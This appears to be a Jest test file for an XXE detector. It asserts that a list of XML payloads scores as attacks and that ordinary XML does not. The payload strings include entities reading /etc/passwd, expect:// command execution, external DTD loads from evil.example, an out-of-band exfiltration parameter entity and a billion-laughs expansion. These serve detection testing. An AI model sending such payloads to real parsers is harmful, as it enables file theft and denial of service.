import { createDetectorInput, makePoint } from '../../detector-input';
import type { Point } from '../../types';
import { scanDtd } from './dtd';
import { xxeDetector } from './index';

const detect = (value: string, path = 'body.raw', over: Partial<Point> = {}) => xxeDetector.detect(createDetectorInput(makePoint(value, path, over)));
const conf = (value: string, path?: string, over?: Partial<Point>): number => detect(value, path, over)?.confidence ?? 0;

describe('scanDtd', () => {
  it('reads doctype, entities and parameter references', () => {
    const scan = scanDtd('<!DOCTYPE r [<!ENTITY % d SYSTEM "http://x/e.dtd"> %d; <!ENTITY a "b">]><r/>');
    expect(scan.doctypes[0].name).toBe('r');
    expect(scan.entities.map((e) => [e.name, e.parameter, e.systemId])).toEqual([['d', true, 'http://x/e.dtd'], ['a', false, null]]);
    expect(scan.parameterRefs).toEqual(['d']);
  });
});

describe('xxeDetector attacks', () => {
  it.each([
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">]>',
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "expect://id">]>',
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "jar:http://x/a.zip!/b">]>',
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "netdoc:/etc/passwd">]>',
    '<!DOCTYPE foo [<!ENTITY xxe PUBLIC "x" "http://evil.example/x">]>',
    '<!DOCTYPE x [<!ENTITY % dtd SYSTEM "http://evil.example/e.dtd"> %dtd;]>',
    '<!ENTITY % int "<!ENTITY &#37; trick SYSTEM \'http://127.0.0.1/?%file;\'>"> %int;',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;">]><lolz>&lol3;</lolz>',
    '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></root>',
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:copy-of select="document(\'/etc/passwd\')"/></xsl:stylesheet>',
    '%3C!DOCTYPE%20foo%20%5B%3C!ENTITY%20xxe%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E',
  ])('detects %s', (payload) => {
    expect(conf(payload)).toBeGreaterThanOrEqual(0.9);
  });

  it('scores an external DTD as likely', () => {
    expect(conf('<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd"><svg/>')).toBeGreaterThanOrEqual(0.8);
  });

  it('reads the XML parser\'s doctype point', () => {
    expect(conf('foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]', 'body.xml.!doctype')).toBeGreaterThanOrEqual(0.9);
  });

  it('gives an internal entity a middling score', () => {
    const c = conf('<!DOCTYPE x [<!ENTITY foo "bar">]><x>&foo;</x>');
    expect(c).toBeGreaterThanOrEqual(0.5);
    expect(c).toBeLessThan(0.9);
  });
});

describe('xxeDetector benign', () => {
  it.each([
    '<?xml version="1.0"?><order><id>1</id></order>',
    '<!DOCTYPE html><html><body>hi</body></html>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    'Tom & Jerry; 50% off; &amp; done',
    '<![CDATA[some text]]>',
    '<!-- a comment -->',
  ])('leaves %s', (value) => {
    expect(conf(value)).toBeLessThan(0.5);
  });
});
